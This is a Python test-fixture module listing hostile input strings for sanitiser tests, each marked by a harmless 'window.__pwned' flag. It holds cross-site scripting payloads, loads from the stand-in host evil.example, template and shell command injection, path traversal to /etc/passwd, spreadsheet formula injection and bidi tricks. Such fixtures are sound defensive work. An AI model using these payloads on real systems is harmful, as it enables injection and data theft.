"""Strings that try to become more than words: markup, addresses, templates, quotes, direction marks, formulas, sheer length.

Whatever would run sets `window.__pwned`, so that a test needs to look at one place only.
"""

from __future__ import annotations

_RUN = "window.__pwned=1"

_EVENTS = (
    *("onclick", "onmouseover", "onfocus", "onerror", "onload", "onanimationstart", "ontoggle", "onpointerenter"),
    *("onkeydown", "onbeforeprint", "onscroll", "onblur"),
)
_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    f"<script\n>{_RUN}</script\t>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"<script type=module>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,window.__pwned=1'></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"<!--<script>{_RUN}--></script>",
    f"--><script>{_RUN}</script><!--",
    f"--!><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'",
    f"<IMG SRC=/nowhere ONERROR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src onerror={_RUN}//",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x, //evil.example/b 2x'>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__pwned=1/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    f"<iframe onload={_RUN}></iframe>",
    "<frameset><frame src=//evil.example/></frameset>",
    f"<object data='javascript:{_RUN}'></object>",
    "<object data=//evil.example/x></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button formaction='javascript:{_RUN}'>x</button>",
    f"<form action='javascript:{_RUN}'><input type=submit autofocus></form>",
    f"<isindex action='javascript:{_RUN}' type=submit>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='  java\tscript:{_RUN}'>x</a>",
    "<a href='//evil.example/' ping='//evil.example/ping'>x</a>",
    f"<area href='javascript:{_RUN}'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    f"<dialog open onclose={_RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<custom-element onclick={_RUN} tabindex=1>x</custom-element>",
    f"<table background='javascript:{_RUN}'>",
    f"<plaintext><script>{_RUN}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<xmp><img title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<template><script>{_RUN}</script></template>",
    f"<portal src='javascript:{_RUN}'>",
    "<div popover id=p>x</div><button popovertarget=p>y</button>",
    "<div id=site-help>x</div><form id=document><input name=body></form>",
    "<a id=location href='//evil.example/'></a><a id=location name=hash></a>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u2039script\u203a{_RUN}\u2039/script\u203a",
]
_QUOTES = [
    *(f"\"{mark} {event}={_RUN} x=\"" for event in _EVENTS for mark in ("",)),
    *(f"' {event}='{_RUN}" for event in _EVENTS),
    f"\"><svg onload={_RUN}>",
    f"'><svg onload={_RUN}>",
    f"`><svg onload={_RUN}>",
    f"\"/><img src=x onerror={_RUN}>",
    f"x tabindex=1 autofocus onfocus={_RUN}",
    f"\" style=\"animation-name:x\" onanimationstart=\"{_RUN}",
    "\"", "'", "`", "\\", "\\\"", "\\'", "\"\"\"", "'''", "&quot;", "&#39;", "&", "&&amp;", "<", ">", "</", "/>",
]  # fmt: skip
_SCRIPTS = [
    f"';{_RUN};//",
    f"\";{_RUN};//",
    f"`;{_RUN};//",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"*/{_RUN}/*",
    f"\u2028{_RUN}//",
    f"\u2029{_RUN}//",
    f"}});{_RUN};({{",
    "{\"__proto__\":{\"__pwned\":1}}",
    "__proto__", "constructor", "hasOwnProperty", "toString", "valueOf", "then",
    "[object Object]", "undefined", "null", "NaN", "true", "-0", "1e309",
    f"alert(1);{_RUN}",
    f"eval('{_RUN}')",
    f"setTimeout('{_RUN}')",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{% raw %}", "{% endblock %}", "{# note", "{{ self.__init__.__globals__ }}", "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in range(9999999) %}x{% endfor %}",
    "{{ request.space.workspace.root }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.__pwned=1')()}}",
    "[[${7*7}]]", "%(name)s", "%s%s%n", "{0.__class__}", "{page.title!r}", "$(touch /tmp/pwned)", "`touch /tmp/pwned`",
    "; touch /tmp/pwned", "| touch /tmp/pwned", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
]  # fmt: skip
_HIDDEN = [
    "\u202egnp.exe\u202c", "\u202dabc\u202c", "\u2066one\u2069", "\u2067two\u2069", "\u2068three", "\u202aa\u202bb", "\u200eleft", "\u200fright",
    "\u061carabic mark", "zero\u200bwidth", "zero\u200cnon\u200djoin", "word\u2060joiner", "soft\u00adhyphen", "\ufefffirst", "line\u2028end",
    "paragraph\u2029end", "next\u0085line", "hangul\u3164filler", "tag\U000e0041\U000e0042", "variation\ufe0f", "z\u0351\u0352\u0353a\u0354l\u0355go",
    "\u0430pple", "\ufffd", "\ufffe", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\\0", "\\u0000", "%00", "&#0;", "&#x0;<script>", "\\x00",
    "\u0001\u0002\u001b[31mred\u001b[0m", "\u007f", "\u0008back", "tab\tand\nline\r\nend", "   ", "\u00a0", "\u2003",
]  # fmt: skip
_STYLES = [
    "</style><style>*{display:none}</style>", "expression(window.__pwned=1)", "url(//evil.example/x.png)", "red;background:url(//evil.example/)",
    "} body { display: none } /*", "@import url(//evil.example/x.css);", "behavior:url(#default#time2)", "-moz-binding:url(//evil.example/)",
    "position:fixed;inset:0;z-index:9999",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:window.__pwned=1)", "![x](//evil.example/x.png)", "![x](x\"onerror=\"window.__pwned=1)", "<javascript:window.__pwned=1>",
    "[x]: javascript:window.__pwned=1", "# heading", "```html\n<script>window.__pwned=1</script>\n```", "| a | b |\n|---|---|", "~~~", "---", "[[x]]",
    "<//evil.example/>", "^[note](javascript:window.__pwned=1)",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=IMPORTXML(\"//evil.example\",\"/\")",
    "=WEBSERVICE(\"http://evil.example/\")", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", "a,b\"c\n=1+1", ";=1+1", "\"=1+1", " =1+1", "%0A=1+1",
]  # fmt: skip
_SPARQL = [
    "\" . ?s ?p ?o . FILTER(\"", "} UNION { ?s ?p ?o", "'''} #", "> . <x:y> <x:z> <", "\\u0022 }", "# note",
    "https://evil.example/", "//evil.example/", "assertion:pump-house-2019-001", "_:b0", "claim:", ":", "claim:../../x",
]  # fmt: skip
_LONG = ["A" * 5_000, "\u202e" * 500, "<b>" * 600, "ab " * 1_500, "\u0301" * 400, "(" * 900, "\U0001f600" * 300, "a" * 300 + "\u00ad" * 300]

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys([
    *_ELEMENTS, *_QUOTES, *_SCRIPTS, *_TEMPLATES, *_HIDDEN, *_STYLES, *_MARKDOWN, *_FORMULAS, *_SPARQL, *_LONG,
]))  # fmt: skip

# Addresses: whatever is not plain http or https must not become a link.
URLS: tuple[str, ...] = (
    "javascript:window.__pwned=1", "JaVaScRiPt:window.__pwned=1", "javascript://x.example/%0Awindow.__pwned=1", "vbscript:msgbox(1)",
    "data:text/html,<script>window.__pwned=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    " javascript:window.__pwned=1", "java\tscript:window.__pwned=1", "java\nscript:window.__pwned=1", "\u0001javascript:window.__pwned=1",
    "blob:http://x.example/1", "file:///etc/passwd", "//evil.example/", "\\\\evil.example\\x", "https:javascript:window.__pwned=1",
    "http://x.example/\" onmouseover=\"window.__pwned=1", "http://x.example/'onfocus='window.__pwned=1", "https://x.example/<script>window.__pwned=1</script>",
    "http://user:pass@x.example/", "http://x.example/?a=b&c=d#e", "ftp://x.example/", "about:blank", "view-source:http://x.example/",
    "filesystem:http://x.example/temporary/x", "intent://x#Intent;end", "jar:http://x.example/!/x", "ws://x.example/",
)  # fmt: skip
